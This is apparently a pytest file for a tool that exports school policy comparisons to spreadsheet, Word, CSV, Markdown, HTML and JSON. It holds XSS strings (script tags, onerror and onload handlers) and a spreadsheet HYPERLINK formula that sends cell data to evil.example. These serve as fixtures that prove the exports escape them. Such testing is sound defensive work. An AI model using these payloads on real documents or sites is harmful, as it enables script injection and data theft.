"""The forms of a comparison: what they hold, that no policy's words become markup or a formula, the same bytes, the page in a browser."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import docx
import openpyxl
import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from clausewise import exports
from clausewise.exports import csv as table
from clausewise.exports import wording, xlsx
from clausewise.exports.wording import POSITIONS

PAYLOAD = "<script>alert(1)</script>\"onload='alert(2)' | a `b` *c* _d_ [e](http://evil.example/) ![f](g) &amp; <!-- $x$ \\ ~~h~~ @head #12"
LINES = "Staff must not:\n1. accept requests;\n- send any;\n# reply;\n\nunless the head “agrees” — in writing."
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
CONTROLS = "Staff\x0b may\x00 not\x1f share _x000D_ passwords\ufffe."
SCHOOL = "<img src=x onerror=alert(3)> | Ash"
RULES = {
    ("friends", "ash"): ("prohibited", "must", LINES),
    ("friends", "bay"): ("permitted", "may", PAYLOAD),
    ("friends", "elm"): ("silent", None, "-2 days are allowed for a reply."),
    ("images", "ash"): ("conditional", None, FORMULA),
    ("images", "bay"): ("required", "must", "@SUM(A1) is required."),
    ("images", "elm"): ("factual", None, "+44 20 7946 0000 is the school’s number."),
    ("posts", "ash"): ("advised", "should", CONTROLS),
    ("posts", "bay"): ("silent", None, None),
    ("posts", "elm"): ("advised", "should", "Staff should think first."),
}
NAMES = {"ash": SCHOOL, "bay": "Bay School", "elm": "=Elm School"}
TOPICS = {"friends": "Friend requests", "images": "Images | <b>pupils</b>", "posts": "-Posts"}


def quote(school: str, text: str, number: str | None = "5.3") -> dict[str, Any]:
    return {
        "text": text, "lead_in": "Employees must not: " if school == "ash" else None, "clause": f"{school}/social#{number or 'staff/2'}",
        "document": f"{school}/social", "title": "Social media policy", "number": number, "headings": ["Staff", "On line"],
        "page": 2 if school == "ash" else None, "start": 10, "end": 10 + len(text), "score": 0.87,
    }  # fmt: skip


def cell(topic: str, school: str) -> dict[str, Any]:
    position, strength, text = RULES[topic, school]
    quotes = [quote(school, text, None if school == "bay" else "5.3")] if text else []
    silent = position == "silent"
    if position == "permitted":
        quotes.append(quote(school, "Staff may also ask the head.", "6"))
    return {
        "topic": topic, "school": school, "school_name": NAMES[school], "status": "not_covered" if silent else "answered",
        "reason": "too_weak" if silent else None, "stance": None if position in ("silent", "factual") else position, "position": position,
        "strength": strength, "confidence": 0.914, "quotes": [] if silent else quotes, "closest": quotes if silent else [],
        "searched": [f"What of {TOPICS[topic]}?", "and of others"],
        "numbers": [{"kind": "days", "value": 2, "unit": "day", "text": "2 days", "clause": "elm/social#5.3"}] if school == "elm" else [],
    }  # fmt: skip


def comparison() -> dict[str, Any]:
    """Three schools, three topics; every position."""
    documents = {school: {"document": f"{school}/social", "title": "Social media policy", "digest": school[0] * 64} for school in NAMES}
    dates = {"approved": {"text": "May 2025", "start": 3}, "next_review": None, "review": "not_stated"}
    covers = {"ash": {"staff": "ash/social#1.1", "governors": "ash/social#scope/2/1"}, "bay": {"staff": "bay/social#1"}, "elm": {}}
    excludes = {"ash": {}, "bay": {"governors": "bay/social#1"}, "elm": {}}
    return {
        "title": "Social media <i>", "made": "2026-11-21",
        "made_by": {"version": "0.1.0", "index": "f" * 64, "model": "words", "documents": {d["document"]: d["digest"] for d in documents.values()}},
        "schools": [{"id": s, "name": name, "trust": "Tide Trust" if s == "bay" else None, "documents": [{**documents[s], **dates}], "covers": covers[s], "excludes": excludes[s]} for s, name in NAMES.items()],
        "topics": [{"id": t, "title": title, "about": f"About {title}", "questions": [f"What of {title}?", "and of others"]} for t, title in TOPICS.items()],
        "cells": [cell(topic, school) for topic in TOPICS for school in NAMES],
        "differences": [{"topic": "friends", "kind": "stance", "told": "=Ash forbids | what Bay allows.", "schools": ["ash", "bay"]}],
    }  # fmt: skip


TEXTS = [quote["text"] for some in comparison()["cells"] for quote in (*some["quotes"], *some["closest"])]


def folded(text: str) -> str:
    return " ".join(text.split())


def book() -> Any:
    return openpyxl.load_workbook(io.BytesIO(xlsx.render(comparison())))


def paper() -> Any:
    return docx.Document(io.BytesIO(exports.render("docx", comparison())))


def csv_rows() -> list[dict[str, str]]:
    text = exports.render("csv", comparison()).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def soup() -> BeautifulSoup:
    return BeautifulSoup(exports.render("html", comparison()), "html.parser")


# the words that the forms share


def test_who_is_covered_is_told_of_the_groups_that_somebody_names() -> None:
    assert wording.audiences(comparison()) == [
        ("Staff", ["✓ Covered, Clause 1.1", "✓ Covered, Clause 1", "– Not named"]),
        ("Governors and trustees", ["✓ Covered, Paragraph 2, point 1", "✕ Left out, Clause 1", "– Not named"]),
    ]


def test_what_should_not_be_done_is_advised_against() -> None:
    assert [wording.position({"position": name}) for name in ("against", "advised")] == ["⊖ Advised against", "○ Advised"]


def test_who_is_covered_stands_in_each_form() -> None:
    assert [[cell.value for cell in row] for row in book()["Who is covered"].iter_rows(max_row=2)] == [
        ["Whom", *NAMES.values()],
        ["Staff", "✓ Covered, Clause 1.1", "✓ Covered, Clause 1", "– Not named"],
    ]
    tables = [[cell.text for cell in table.rows[1].cells] for table in paper().tables]
    assert ["Staff", "✓ Covered, Clause 1.1", "✓ Covered, Clause 1", "– Not named"] in tables
    assert "| Staff | ✓ Covered, Clause 1.1 | ✓ Covered, Clause 1 | – Not named |" in exports.render("md", comparison()).decode()


def test_the_summary_says_where_schools_differ_and_who_is_silent() -> None:
    assert wording.summary(comparison()) == [
        "The policies of 3 schools were compared on 3 topics.",
        "No date of the next review is stated at <img src=x onerror=alert(3)> | Ash, Bay School and =Elm School.",
        "Every school’s policies say something on 1 of them.",
        "On 2 topics the rules quoted are marked differently: “Friend requests” (1 not allowed, 1 allowed, 1 silent); "
        "“Images | <b>pupils</b>” (1 required, 1 on a condition, 1 a fact only).",
        "Silent: Bay School on 1 topic (“-Posts”); =Elm School on 1 topic (“Friend requests”).",
    ]


def test_a_topic_on_which_nobody_says_anything_is_counted() -> None:
    value = comparison()
    for some in value["cells"]:
        some["position"] = "silent" if some["topic"] == "posts" else "advised"
    told = wording.summary(value)
    assert told[2:4] == [
        "Every school’s policies say something on 2 of them, and nobody’s on 1.",
        "No two schools that state a rule on the same topic are marked differently.",
    ]


def test_a_clause_without_a_number_has_an_address_all_the_same() -> None:
    places = {
        "a/b#5.3": "Clause 5.3",
        "a/b#5.1/4": "Clause 5.1, point 4",
        "a/b#personal-use/2": "Paragraph 2",
        "a/b#personal-use/2/1": "Paragraph 2, point 1",
        "a/b#5/1/7": "Clause 5, paragraph 1, point 7",
    }
    assert {clause: wording.place({"number": None, "clause": clause}) for clause in places} == places
    assert wording.place({"number": "Appendix A", "clause": "a/b#appendix-a"}) == "Appendix A"
    assert wording.place({"number": "5.1(a)", "clause": "a/b#5.1/1"}) == "Clause 5.1(a)"


def test_what_xml_cannot_hold_is_shown_by_its_sign() -> None:
    assert wording.legal("a\x00\x0b\x1f\ud800\uffff\t\r\n…") == "a␀␋␟\ufffd\ufffd\t\r\n…"


# the workbook


def test_the_matrix_holds_every_cell_with_mark_and_word() -> None:
    sheet = book()["Matrix"]
    assert [found.value for found in sheet[3]] == ["Topic", *NAMES.values()]
    assert [found.value for found in sheet["A"][3:6]] == list(TOPICS.values())
    assert [[found.value for found in row] for row in sheet["B4:D6"]] == [
        ["✕ Not allowed\nmust, Clause 5.3", "✓ Allowed\nmay, On line: paragraph 2", "– Does not say"],
        ["◐ Depends on a condition\nClause 5.3", "! Required\nmust, On line: paragraph 2", "· States a fact\nClause 5.3"],
        ["○ Advised\nshould, Clause 5.3", "– Does not say", "○ Advised\nshould, Clause 5.3"],
    ]
    assert [row[0].value for row in sheet["A9:A16"]] == [" ".join(words) for words in POSITIONS.values()]
    fills = {sheet.cell(row, column).fill.fgColor.rgb for row in (4, 5, 6) for column in (2, 3, 4)}
    assert len(fills) == 7


def test_the_workbook_can_be_filtered_and_printed() -> None:
    sheets = book()
    assert sheets.sheetnames == ["Matrix", "Quotes", "Differences", "Who is covered", "Documents", "About"]
    assert [sheets[name].freeze_panes for name in sheets.sheetnames] == ["B4", "A2", "A2", "A2", "A2", None]
    assert [sheets[name].auto_filter.ref for name in sheets.sheetnames] == ["A3:D6", "A1:Q11", "A1:D2", "A1:D3", "A1:H4", None]
    for sheet in sheets:
        assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == ("landscape", 1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheets["Matrix"].print_title_rows == "$3:$3"


def test_the_quotes_are_in_full_with_their_address() -> None:
    rows = [[found.value for found in row] for row in book()["Quotes"].iter_rows(min_row=2)]
    assert rows[0] == [
        "Friend requests", SCHOOL, "✕ Not allowed", "must", "Quote 1", "Employees must not: ", LINES, "Clause 5.3", "Staff › On line", 2,
        "ash/social#5.3", "Social media policy", "a" * 64, 0.914, None, "What of Friend requests?\nand of others", None,
    ]  # fmt: skip
    assert [row[6] for row in rows if row[6]] == [xlsx.text_of(text) for text in TEXTS]
    assert [text for text in TEXTS if xlsx.text_of(text) != text] == [CONTROLS]
    assert xlsx.text_of(CONTROLS) == "Staff␋ may␀ not␟ share _x005F_x000D_ passwords\ufffd."
    assert [row[4] for row in rows] == ["Quote 1", "Quote 1", "Quote 2", "Nearest clause 1", *["Quote 1"] * 4, "No clause found", "Quote 1"]
    assert [row[14] for row in rows if row[14]] == ["2 days"] * 3
    assert rows[8][15:] == ["What of -Posts?\nand of others", "The nearest clause is not near enough to count as an answer."]


def test_no_text_is_a_formula_or_becomes_one() -> None:
    cells = [found for sheet in book() for row in sheet.iter_rows() for found in row if found.value is not None]
    assert {found.data_type for found in cells} == {"s", "n"}
    assert all(found.quotePrefix for found in cells if str(found.value).startswith(("=", "+", "-", "@")))
    assert FORMULA in {found.value for found in cells}


def test_a_text_too_long_for_a_cell_goes_on_in_the_next_row() -> None:
    value = comparison()
    value["cells"][0]["quotes"][0]["text"] = long = "".join(chr(97 + n % 26) for n in range(40_000))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.render(value)))["Quotes"]
    assert "".join(sheet.cell(row, 7).value for row in (2, 3, 4)) == long


def test_differences_documents_and_what_made_it_have_their_sheets() -> None:
    sheets = book()
    assert [found.value for found in sheets["Differences"][2]] == [
        "Friend requests", "Position", "=Ash forbids | what Bay allows.", f"{SCHOOL}, Bay School",
    ]  # fmt: skip
    assert [found.value for found in sheets["Documents"][3]] == [
        "Bay School", "Tide Trust", "Social media policy", "May 2025", "not stated", "– No date stated", "bay/social", "b" * 64,
    ]  # fmt: skip
    told = {row[0].value: row[1].value for row in sheets["About"].iter_rows(min_row=3) if row[0].value}
    assert told["Made"] == "21 November 2026"
    assert (told["Index"], told["By"], told["Model"]) == ("f" * 64, "Clausewise 0.1.0", "words")


# the paper


def test_the_paper_has_its_parts() -> None:
    found = paper()
    headings = [(p.style.name, p.text) for p in found.paragraphs if p.style.name in ("Title", "Heading 1", "Heading 2")]
    assert headings == [
        ("Title", "Social media <i>: how schools’ policies compare"), ("Heading 1", "Summary"), ("Heading 1", "Positions"),
        ("Heading 1", "What differs"), ("Heading 1", "Who is covered"), ("Heading 1", "What the policies say"), *(("Heading 2", title) for title in TOPICS.values()),
        ("Heading 1", "Appendix: what this was made from"), ("Heading 2", "How to read it"),
    ]  # fmt: skip
    texts = [p.text for p in found.paragraphs]
    assert texts[texts.index("Summary") + 1] == " ".join(wording.summary(comparison()))
    footer = found.sections[0].footer.paragraphs[0]._p.xml
    assert 'w:instr="PAGE"' in footer
    assert 'w:instr="NUMPAGES"' in footer


def test_the_paper_quotes_in_full_and_names_the_silent() -> None:
    found = paper()
    words = [p.text.removeprefix("Lead-in: ") for p in found.paragraphs if p.style.name == "Quote"]
    leads = "Employees must not: "
    assert [text for text in words if text != leads] == [
        wording.legal(text) for text in (LINES, PAYLOAD, "Staff may also ask the head.", RULES["friends", "elm"][2] or "", FORMULA,
                                         RULES["images", "bay"][2] or "", RULES["images", "elm"][2] or "", CONTROLS, "Staff should think first.")
    ]  # fmt: skip
    assert words.count(leads) == 3
    texts = [p.text for p in found.paragraphs]
    place = texts.index("Bay School: – Does not say")
    assert texts[place + 1] == (
        "The nearest clause is not near enough to count as an answer. Searched for, in words that are ours and not the policy’s: “What of -Posts?”, “and of others”."
    )
    assert "Clause 5.3, Staff › On line, page\u00a02, Social media policy [ash/social#5.3]. Confidence 91\u00a0%" in texts


def test_the_paper_s_tables_repeat_their_header() -> None:
    tables = paper().tables
    assert [[found.text for found in table_.rows[0].cells] for table_ in tables] == [
        ["Topic", *NAMES.values()], ["Whom", *NAMES.values()], ["School", "Policy", "Approved", "Next review", "Review", "Digest (SHA-256)"], ["What made it", ""],
    ]  # fmt: skip
    assert all("w:tblHeader" in table_.rows[0]._tr.xml for table_ in tables)
    assert [found.text for found in tables[0].rows[1].cells] == [
        "Friend requests", "✕ Not allowed\nmust, Clause\u00a05.3", "✓ Allowed\nmay, On\u00a0line:\u00a0paragraph\u00a02", "– Does not say",
    ]  # fmt: skip
    assert [found.text for found in tables[2].rows[2].cells][2:] == ["May 2025", "not stated", "– No date stated", "b" * 64]


def test_many_schools_stand_below_each_other() -> None:
    value = comparison()
    value["schools"] = [{**value["schools"][0], "id": f"s{n}", "name": f"School {n}"} for n in range(8)]
    value["cells"] = [{**cell(topic, "ash"), "school": f"s{n}", "school_name": f"School {n}"} for topic in TOPICS for n in range(8)]
    first = docx.Document(io.BytesIO(exports.render("docx", value))).tables[0]
    assert [found.text for found in first.rows[1].cells] == [
        "Friend requests", "✕ Not allowed", "School 0, School 1, School 2, School 3, School 4, School 5, School 6 and School 7 (8)",
    ]  # fmt: skip


# text


def test_the_csv_has_a_row_for_each_cell_and_no_formula() -> None:
    assert exports.render("csv", comparison()).startswith(b"\xef\xbb\xbf")
    rows = csv_rows()
    assert [(row["topic_id"], row["school_id"], row["position"]) for row in rows] == [(*key, rule[0]) for key, rule in RULES.items()]
    starts = tuple("=+-@")
    assert [(name, value) for row in rows for name, value in row.items() if value.startswith(starts)] == []
    for row, (position, strength, text) in zip(rows, RULES.values(), strict=True):
        guard = "'" if text and text.startswith(starts) else ""
        assert row["words"] == guard + wording.legal(text or "")
        assert (row["position_in_words"], row["strength"]) == (POSITIONS[position][1], strength or "")
    assert rows[1]["further_quotes"] == "Staff may also ask the head. [bay/social#6]"
    assert (rows[2]["words_are"], rows[2]["document_digest"], rows[2]["made"]) == ("nearest clause looked at", "e" * 64, "2026-11-21")
    assert tuple(rows[0]) == table.HEAD


def test_markdown_shows_every_word_as_it_is() -> None:
    page = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(exports.render("md", comparison()).decode())
    shown = BeautifulSoup(page, "html.parser")
    assert {tag.name for tag in shown.find_all(True)} == {
        "h1", "h2", "h3", "h4", "p", "table", "thead", "tbody", "tr", "th", "td", "br", "ul", "li", "blockquote",
    }  # fmt: skip
    quoted = [folded(found.get_text()) for found in shown.find_all("blockquote")]
    assert [text for text in quoted if text != "Employees must not:"] == [folded(wording.legal(text)) for text in TEXTS]
    rows = [[found.get_text() for found in row.find_all(["th", "td"])] for row in shown.find_all("table")[0].find_all("tr")]
    assert rows[0] == ["Topic", *NAMES.values()]
    assert rows[1][1] == "✕ Not allowedmust, Clause 5.3"
    assert {len(row) for row in rows} == {4}


def test_markdown_keeps_line_breaks() -> None:
    page = MarkdownIt("commonmark").render(exports.render("md", comparison()).decode())
    block = next(found for found in BeautifulSoup(page, "html.parser").find_all("blockquote") if "accept" in found.get_text())
    assert len(block.find_all("br")) == 3
    assert [folded(part.get_text())[-8:] for part in block.find_all("p")] == ["# reply;", "writing."]


def test_json_is_the_comparison() -> None:
    value = comparison()
    value["title"] = "half \ud800"
    assert json.loads(exports.render("json", value)) == value
    assert list(json.loads(exports.render("json", value))) == list(value)


# the page, as text


def test_the_page_holds_every_word_and_none_as_markup() -> None:
    found = soup()
    assert [quoted.get_text() for quoted in found.select("blockquote .said")] == [wording.legal(text) for text in TEXTS]
    assert len(found.find_all("script")) == 1
    assert found.find_all(["img", "b", "i", "link", "iframe"]) == []
    assert [name for tag in found.find_all(True) for name in tag.attrs if name.startswith("on") or name in ("style", "src")] == []


def test_each_cell_of_the_page_links_to_its_words() -> None:
    found = soup()
    cells = found.select(".matrix td")
    assert [folded(one.select_one(".word").get_text()) for one in cells] == [POSITIONS[rule[0]][1] for rule in RULES.values()]  # type: ignore[union-attr]
    articles = {article["id"]: article for article in found.find_all("article")}
    for one, (position, _, text) in zip(cells, RULES.values(), strict=True):
        article = articles[str(one.find("a")["href"])[1:]]  # type: ignore[index]
        assert article["data-position"] == position
        assert wording.legal(text or "") in article.get_text()


def test_context_is_shown_where_a_quote_brings_it() -> None:
    value = comparison()
    value["cells"][0]["quotes"][0] |= {"before": "Before it. ", "after": " After it."}
    found = BeautifulSoup(exports.render("html", value), "html.parser").select_one("blockquote")
    assert found is not None
    assert found.get_text() == f"Before it. {LINES} After it."


# all of them


def test_every_text_stands_in_every_form() -> None:
    assert set(exports.FORMS) == {"xlsx", "docx", "csv", "md", "html", "json"}
    assert all(isinstance(exports.render(form, comparison()), bytes) for form in exports.FORMS)


@pytest.mark.parametrize("form", ["xlsx", "docx"])
def test_a_zip_knows_no_clock(form: str) -> None:
    with ZipFile(io.BytesIO(exports.render(form, comparison()))) as found:
        assert {info.date_time for info in found.infolist()} == {(2026, 11, 21, 0, 0, 0)}
        core = found.read("docProps/core.xml").decode()
    assert core.count("2026-11-21T00:00:00Z") == 2
    assert str(datetime.now().year) + "-" not in core.replace("2026-11-21", "")


def test_no_hash_seed_and_no_hour_changes_a_byte() -> None:
    code = (
        "import hashlib, sys, time, test_exports as t; time.sleep(float(sys.argv[1]));"
        "print([hashlib.sha256(t.exports.render(form, t.comparison())).hexdigest() for form in t.exports.FORMS])"
    )
    path = os.pathsep.join([str(Path(__file__).parent), str(Path(exports.__file__).parents[2])])
    said = [
        subprocess.run(
            [sys.executable, "-c", code, wait],
            capture_output=True,
            text=True,
            check=True,
            env={**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": path, "TZ": zone},
        ).stdout
        for seed, wait, zone in (("1", "0", "UTC"), ("2", "2.1", "Asia/Tokyo"))  # a ZIP counts in steps of two seconds
    ]
    assert said[0] == said[1]
    assert len(said[0]) > 6 * 64


# in a browser

@pytest.fixture
def open_page(chromium: Any, tmp_path: Path) -> Iterator[Any]:
    """Opens a comparison from disk, off line; afterwards, nothing but the file was asked for, and no script failed."""
    contexts, requests, faults = [], list[str](), list[str]()

    def opened(scheme: str = "light", width: int = 1280, script: bool = True) -> Any:
        path = tmp_path / "comparison.html"
        path.write_bytes(exports.render("html", comparison()))
        context = chromium.new_context(
            viewport={"width": width, "height": 900}, color_scheme=scheme, offline=True, java_script_enabled=script
        )
        contexts.append(context)
        context.on("request", lambda request: requests.append(request.url))
        page = context.new_page()
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on("console", lambda message: faults.append(message.text))
        page.on("dialog", lambda dialog: (faults.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        return page

    yield opened
    for context in contexts:
        context.close()
    assert requests
    assert all(request.startswith("file:") and "comparison.html" in request for request in requests)
    assert faults == []


def visible(page: Any) -> list[str]:
    return [text.strip() for text in page.locator(".matrix tbody th:visible").all_inner_texts()]


@pytest.mark.browser
def test_a_cell_opens_its_words_and_gives_the_focus_back(open_page: Any) -> None:
    page = open_page()
    link = page.get_by_role("link", name="Allowed at Bay School: Friend requests", exact=True)
    link.press("Enter")
    dialog = page.get_by_role("dialog", name="Bay School: Friend requests")
    assert dialog.locator(".said").first.inner_text() == PAYLOAD
    assert "Paragraph 2, Staff › On line, Social media policy" in folded(dialog.inner_text())
    page.keyboard.press("Escape")
    assert not dialog.is_visible()
    assert page.evaluate("document.activeElement.textContent").strip().startswith("✓")
    page.locator(".matrix td").first.click()
    said = page.get_by_role("dialog").inner_text()
    assert "Lead-in Employees must not:" in folded(said)
    assert "Staff must not:\n1. accept requests;\n- send any;\n# reply;" in said
    page.get_by_role("button", name="Close").click()
    assert not page.locator("dialog").is_visible()


@pytest.mark.browser
def test_the_matrix_is_filtered_and_counted(open_page: Any) -> None:
    page = open_page()
    status = page.get_by_role("status")
    assert status.inner_text() == "3 topics, 3 schools"
    page.get_by_role("combobox", name="Position").select_option("prohibited")
    assert visible(page) == ["Friend requests"]
    assert page.locator("article:visible").count() == 1
    assert page.locator(".matrix td a:visible").count() == 1
    page.get_by_role("button", name="Show all").click()
    page.get_by_role("searchbox", name="Topic").fill("IMAGES pupils")
    assert visible(page) == [TOPICS["images"]]
    assert status.inner_text() == "1 of 3 topics, 3 schools"
    page.get_by_role("button", name="Show all").click()
    page.get_by_label("Only where schools differ").check()
    assert visible(page) == [TOPICS["friends"], TOPICS["images"]]
    page.get_by_label(SCHOOL).uncheck()
    assert status.inner_text() == "0 of 3 topics, 2 of 3 schools"
    page.get_by_label("Only where schools differ").uncheck()
    assert page.locator(".matrix thead th:visible").all_inner_texts() == ["Topic", "Bay School", "=Elm School"]


@pytest.mark.browser
def test_without_scripts_the_page_is_whole(open_page: Any) -> None:
    page = open_page(script=False)
    assert len(visible(page)) == 3
    assert not page.locator("#filter").is_visible()
    assert page.locator("article:visible").count() == 9
    page.locator(".matrix td a").nth(4).click()
    assert page.url.endswith("#images/bay")


@pytest.mark.browser
@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 1280), ("light", 320), ("dark", 390), ("light", 1920)])
@pytest.mark.parametrize("opened", [False, True])
def test_the_page_can_be_used_by_everybody(open_page: Any, scheme: str, width: int, opened: bool) -> None:
    from axe_playwright_python.sync_playwright import Axe

    page = open_page(scheme, width)
    if opened:
        page.locator(".matrix td a").first.click()
    assert Axe().run(page).response["violations"] == []
    assert page.evaluate("document.documentElement.scrollWidth") <= width
